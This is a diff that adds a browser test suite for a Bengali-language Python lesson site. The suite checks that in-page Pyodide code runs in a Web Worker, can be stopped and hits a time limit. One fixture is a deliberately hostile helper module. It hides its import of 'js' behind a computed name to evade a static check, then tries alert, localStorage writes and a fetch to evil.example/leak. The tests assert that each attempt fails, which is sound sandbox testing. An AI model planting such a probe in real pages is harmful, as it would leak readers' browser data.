@@ -1,0 +1,187 @@
+"""In-page Python runs in a Web Worker: a looping block is stopped, a hostile carried module reaches nothing.
+
+A throw-away site built from a pull request's point of view: a lesson block whose carried sibling
+module looks up `js` by a computed name (the static import check lets it through: `importlib` is
+standard library) and reaches for the page. The reader clicks "পাতায় চালান" as a reader does, on the
+REAL self-hosted Pyodide. Every dialog is recorded (none may open), every request off 127.0.0.1 is
+aborted and recorded (none may be made); the page carries its own Content-Security-Policy.
+"""
+
+from __future__ import annotations
+
+from urllib.parse import urlsplit
+
+import pytest
+from playwright.sync_api import expect
+
+from bench.local import static_server
+from pathshala import inpage
+
+from .conftest import Project, copy_machinery
+
+pytestmark = pytest.mark.browser
+
+PYODIDE_WAIT_MS = 180_000  # loading and compiling 13 MB of wasm on a shared 2-core machine
+PAGE_GLOBALS = ("alert", "confirm", "prompt", "localStorage", "sessionStorage", "document", "indexedDB", "caches",
+                "fetch", "XMLHttpRequest", "WebSocket", "EventSource", "importScripts", "Worker", "BroadcastChannel",
+                "open", "parent", "top", "cookieStore")
+HELPER = f'''import importlib
+
+
+def greet():
+    """In the build (CPython) there is no js module; in the page it would be the page itself."""
+    try:
+        js = importlib.import_module("j" + "s")
+    except ImportError:
+        return "নমস্কার"
+    found = []
+    for name in {PAGE_GLOBALS!r}:
+        try:
+            getattr(js, name)
+            found.append(name)
+        except AttributeError:
+            pass
+    for reach in (lambda: js.alert("পাতা দখল"), lambda: js.localStorage.setItem("k", "v"),
+                  lambda: js.fetch("https://evil.example/leak")):
+        try:
+            reach()
+            found.append("reached")
+        except Exception as err:
+            found.append(type(err).__name__)
+    return "found: " + " ".join(found)
+'''
+LAB = """# ল্যাব
+
+একটি block, যার সঙ্গে একটি module চলে।
+
+```python exec="on" inpage="python" result="text"
+--8<-- "lab/hello.py"
+```
+"""
+
+
+@pytest.fixture(scope="module")
+def lab_url(tmp_path_factory):
+    root = tmp_path_factory.mktemp("worker") / "site"
+    root.mkdir()
+    copy_machinery(root, with_content=False)
+    project = Project(root)
+    project.write({"docs/index.md": "# হোম\n\nশুরু।\n", "docs/lab.md": LAB,
+                   "snippets/lab/hello.py": "import helper\nprint(helper.greet())\n",
+                   "snippets/lab/helper.py": HELPER})
+    accepted = project.accept()
+    assert accepted.returncode == 0, accepted.stdout + accepted.stderr
+    built = project.build()
+    assert built.returncode == 0, built.stderr[-4000:]
+    with static_server(root / "site") as url:
+        yield url
+
+
+class Reader:
+    """A browser context: dialogs, script errors and requests off 127.0.0.1 recorded (those aborted)."""
+
+    def __init__(self, browser, base_url: str) -> None:
+        self.dialogs: list[str] = []
+        self.outside: list[str] = []
+        self.errors: list[str] = []
+        self.context = browser.new_context(base_url=base_url, service_workers="block")
+        self.context.route("**/*", self._route)
+        self.page = self.context.new_page()
+        self.page.set_default_timeout(30_000)
+        self.page.on("dialog", self._dialog)
+        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
+
+    def _route(self, route) -> None:
+        url = urlsplit(route.request.url)
+        if url.scheme in ("http", "https") and url.hostname != "127.0.0.1":
+            self.outside.append(route.request.url)
+            route.abort("internetdisconnected")
+        else:
+            route.continue_()
+
+    def _dialog(self, dialog) -> None:
+        self.dialogs.append(dialog.message)
+        dialog.dismiss()
+
+    def block(self):
+        self.page.goto("lab/")
+        block = self.page.locator(".ps-inpage").first
+        block.scroll_into_view_if_needed()
+        return block
+
+
+@pytest.fixture
+def reader(browser, lab_url):
+    opened = Reader(browser, lab_url)
+    yield opened
+    opened.context.close()
+    assert not opened.outside, f"requests left 127.0.0.1: {opened.outside}"
+    assert not opened.dialogs, f"a dialog opened: {opened.dialogs}"
+    assert not opened.errors, opened.errors
+
+
+def press_run(block):
+    block.get_by_role("button", name="পাতায় চালান").click()
+
+
+def test_a_hostile_carried_module_reaches_nothing_of_the_page(reader):
+    page = reader.page
+    block = reader.block()
+    page.evaluate("localStorage.setItem('ps-probe', 'untouched')")
+    assert "নমস্কার" in block.locator("pre").first.text_content()  # the build's run: no js module there
+    press_run(block)
+    expect(block.locator(".ps-inpage-status")).to_contain_text("পাতায় চালানো হলো", timeout=PYODIDE_WAIT_MS)
+    output = block.locator(".ps-inpage-output code").text_content()
+    # None of the page's globals is there; alert, storage and the network each fail.
+    assert output == "found: AttributeError AttributeError AttributeError\n", output
+    assert page.evaluate("localStorage.getItem('k')") is None
+    assert page.evaluate("localStorage.getItem('ps-probe')") == "untouched"
+    assert page.evaluate("typeof window.pyodide === 'undefined' && typeof window.loadPyodide === 'undefined'")
+
+
+def test_the_same_module_in_the_page_itself_would_have_reached_it(reader):
+    """The control: the module's probe is real. Run on the page's own global object, it finds them all."""
+    page = reader.page
+    reader.block()
+    found = page.evaluate(f"() => {list(PAGE_GLOBALS)!r}.filter(name => name in self)")
+    assert {"alert", "localStorage", "document", "fetch"} <= set(found)
+
+
+def test_a_block_that_never_ends_is_stopped_by_the_button(reader):
+    block = reader.block()
+    editor = block.locator("textarea.ps-inpage-code")
+    editor.fill("print('শুরু', flush=True)\nwhile True:\n    pass\n")
+    press_run(block)
+    stop = block.get_by_role("button", name="থামান")
+    expect(block.locator(".ps-inpage-output code")).to_have_text("শুরু\n", timeout=PYODIDE_WAIT_MS)
+    assert reader.page.evaluate("1 + 1") == 2  # the page answers while the loop runs: it is not in the page
+    stop.click()
+    expect(block.locator(".ps-inpage-status")).to_contain_text("আপনি থামালেন")
+    assert stop.is_hidden() and block.get_by_role("button", name="পাতায় চালান").is_enabled()
+    editor.fill("print(6 * 7)\n")  # the next press starts a fresh worker
+    press_run(block)
+    expect(block.locator(".ps-inpage-output code")).to_have_text("42\n", timeout=PYODIDE_WAIT_MS)
+
+
+def test_a_block_that_never_ends_is_stopped_by_the_time_limit(reader):
+    block = reader.block()
+    reader.page.evaluate("window.pathshalaPython.limitMs = 3000")  # the limit itself, shortened for the test
+    block.locator("textarea.ps-inpage-code").fill("while True:\n    pass\n")
+    press_run(block)
+    status = block.locator(".ps-inpage-status")
+    expect(status).to_contain_text("সেকেন্ডেও শেষ হলো না, তাই থামানো হলো", timeout=PYODIDE_WAIT_MS)
+    assert status.text_content().startswith("৩ সেকেন্ডেও")
+    assert inpage.LIMIT_S == 30  # what a reader gets
+
+
+def test_the_runner_is_a_small_reusable_protocol(reader):
+    """window.pathshalaPython.run: what issue 29's exercise checks will call."""
+    reader.block()
+    result = reader.page.evaluate("""async () => {
+        const py = window.pathshalaPython;
+        const ok = await py.run({code: "import m\\nprint(m.X * 2)", files: [{name: "m.py", text: "X = 21"}]});
+        const error = await py.run({code: "1 / 0"});
+        const slow = await py.run({code: "while True: pass", limitMs: 1000});
+        return [ok.status, ok.output, error.status, error.output.includes("ZeroDivisionError"), slow.status];
+    }""")
+    assert result == ["ok", "42\n", "error", True, "timeout"]
